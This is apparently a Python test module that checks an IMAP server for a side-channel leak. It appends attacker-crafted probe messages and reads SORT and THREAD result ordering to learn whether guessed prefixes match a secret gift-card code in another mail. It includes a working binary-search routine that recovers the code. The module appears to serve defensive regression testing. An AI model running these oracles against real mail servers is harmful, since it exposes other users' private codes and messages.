"""Class 5, sort and thread keys as oracles: the attacker APPENDs probe
messages whose Subject (or display name, or In-Reply-To) it chose, and
reads from the server's SORT or THREAD answer where a probe lands
relative to the gift mail.

Oracle variants (true vs made-up prefix of the same shape): SORT by
SUBJECT, REVERSE SUBJECT, DISPLAYFROM and DISPLAYTO (two probes that
bracket the prefix), SUBJECT as the second
key, ESORT RETURN (MIN) restricted to the two messages; THREAD=
ORDEREDSUBJECT with the whole subject (Re: prefixed), THREAD=REFERENCES
and REFS with In-Reply-To naming a Message-ID that holds the code.
Recovery variant: a binary search of the first six characters of the
subject code, one probe per step (what the issue describes), bounded and
ended by a SORT that gives no order; it fails if the recovered text is six
characters of the code.
"""

import re

from .framework import Variant
from .payloads import search_targets

SUBJECT_HEAD = "Amazon gift card claim code: "
FROM_HEAD = "Amazon gift card claim code: "
TO_HEAD = "Your claim code: "
ALPHABET = "-0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZ"


def fields_target(ctx):
    return [(ctx.message("fields-addresses"), 0)]


def probe_message(subject="probe", from_name="probe", to_name="probe", in_reply_to=None):
    lines = [
        f'From: "{from_name}" <probe@attacker.example>',
        f'To: "{to_name}" <alice@example.org>',
        f"Subject: {subject}",
        "Date: Sat, 10 Feb 2024 10:00:00 +0000",
        f"Message-ID: <probe-{abs(hash((subject, from_name, to_name, in_reply_to)))}@attacker.example>",
    ]
    if in_reply_to:
        lines.append(f"In-Reply-To: <{in_reply_to}>")
    lines += ["MIME-Version: 1.0", "Content-Type: text/plain; charset=us-ascii", "", "probe", ""]
    return "\r\n".join(lines).encode()


def append(conn, raw):
    """The UID of the APPENDed probe (APPENDUID), or None."""
    untagged, tagged = conn.command_with_literals([b"APPEND INBOX ", raw, b""], sync=False)
    m = re.search(rb"APPENDUID \d+ (\d+)", tagged or b"")
    return int(m.group(1)) if m else None


def sort_order(conn, keys):
    untagged, tagged = conn.command(f"UID SORT ({keys}) UTF-8 ALL")
    for r in untagged:
        if b"SORT" in r:
            return [int(x) for x in re.findall(rb"\d+", r.split(b"SORT", 1)[1])]
    return None


def relation(order, probe, gift):
    if order is None or probe is None or probe not in order or gift not in order:
        return b"no order"
    return b"before" if order.index(probe) < order.index(gift) else b"after"


def adjacent(order, probe, gift, known):
    """Whether `probe` sorts right before `gift` among the labelled
    messages (other probes left out): what a true prefix does."""
    if order is None or probe is None or probe not in order or gift not in order:
        return b"no order"
    order = [u for u in order if u <= known or u == probe]
    i = order.index(probe)
    return b"adjacent" if i + 1 < len(order) and order[i + 1] == gift else b"elsewhere"


def sort_oracle(keys, make):
    def fn(run, probes):
        conn = run.session()
        out = []
        for p in probes:
            uid = append(conn, make(p.text))
            out.append(adjacent(sort_order(conn, keys), uid, p.msg.uid, run.ctx.max_uid))
        return out

    return fn


def bracket_oracle(keys, make):
    """Two probes around a prefix: `head + prefix` and `head + prefix + "~"`
    enclose the gift mail in the sort order exactly when its key starts
    with `head + prefix`, whatever else the mailbox holds."""
    def fn(run, probes):
        conn = run.session()
        out = []
        for p in probes:
            low = append(conn, make(p.text))
            high = append(conn, make(p.text + "~"))
            order = sort_order(conn, keys)
            gift = p.msg.uid
            if order is None or any(u is None or u not in order for u in (low, high, gift)):
                out.append(b"no order")
            elif order.index(low) < order.index(gift) < order.index(high):
                out.append(b"inside")
            else:
                out.append(b"outside")
        return out

    return fn


def threads(conn, algorithm):
    untagged, _ = conn.command(f"UID THREAD {algorithm} UTF-8 ALL")
    text = b"".join(r for r in untagged if b"THREAD" in r)
    groups, depth, cur = [], 0, b""
    for ch in text.split(b"THREAD", 1)[-1]:
        c = bytes([ch])
        if c == b"(":
            depth += 1
        if depth:
            cur += c
        if c == b")":
            depth -= 1
            if depth == 0:
                groups.append({int(x) for x in re.findall(rb"\d+", cur)})
                cur = b""
    return groups


def thread_oracle(algorithm, make):
    def fn(run, probes):
        conn = run.session()
        out = []
        for p in probes:
            uid = append(conn, make(run.ctx, p))
            together = any(uid in g and p.msg.uid in g for g in threads(conn, algorithm))
            out.append(b"together" if together else b"apart")
        return out

    return fn


def subject_of(ctx, p):
    return probe_message(subject="Re: " + SUBJECT_HEAD + p.text)


def replying_to(ctx, p):
    return probe_message(subject="hello", in_reply_to=f"claim-{p.text}@shop.example")


def binary_search(run):
    """Recovers the subject code's first six characters with SORT SUBJECT:
    the probe `known + c` sorts before the gift mail iff c <= the code's
    next character (six letters or digits, separators not counted)."""
    conn = run.session()
    gift = run.ctx.message("subject-code").uid
    known = ""
    # Bounded: six letters or digits and as many separators; a SORT that
    # gives no order (refused) ends the search with what it has.
    for _ in range(12):
        if len(known.replace("-", "")) >= 6:
            break
        lo, hi = 0, len(ALPHABET) - 1
        while lo < hi:
            mid = (lo + hi + 1) // 2
            uid = append(conn, probe_message(subject=SUBJECT_HEAD + known + ALPHABET[mid]))
            where = relation(sort_order(conn, "SUBJECT"), uid, gift)
            if where == b"no order":
                run.recover(known, "SORT SUBJECT binary search")
                return
            if where == b"before":
                lo = mid
            else:
                hi = mid - 1
        known += ALPHABET[lo]
    run.recover(known, "SORT SUBJECT binary search")


def variants():
    subj = lambda t: probe_message(subject=SUBJECT_HEAD + t)  # noqa: E731
    return [
        Variant("sort-subject", sort_oracle("SUBJECT", subj), kind="oracle", targets=search_targets),
        Variant("sort-reverse-subject", sort_oracle("REVERSE SUBJECT", subj), kind="oracle", targets=search_targets),
        Variant("sort-arrival-then-subject", sort_oracle("DATE SUBJECT", lambda t: probe_message(subject=SUBJECT_HEAD + t).replace(b"Sat, 10 Feb 2024 10:00:00", b"Thu, 08 Feb 2024 10:00:00")), kind="oracle", targets=search_targets),
        Variant("sort-displayfrom", bracket_oracle("DISPLAYFROM", lambda t: probe_message(from_name=FROM_HEAD + t)), kind="oracle", targets=fields_target),
        Variant("sort-displayto", bracket_oracle("DISPLAYTO", lambda t: probe_message(to_name=TO_HEAD + t)), kind="oracle", targets=fields_target),
        Variant("thread-orderedsubject-whole-subject", thread_oracle("ORDEREDSUBJECT", subject_of), kind="oracle", targets=search_targets, prefix=None),
        Variant("thread-references-message-id", thread_oracle("REFERENCES", replying_to), kind="oracle", targets=fields_target, prefix=None),
        Variant("thread-refs-message-id", thread_oracle("REFS", replying_to), kind="oracle", targets=fields_target, prefix=None),
        Variant("sort-subject-binary-search", binary_search),
    ]
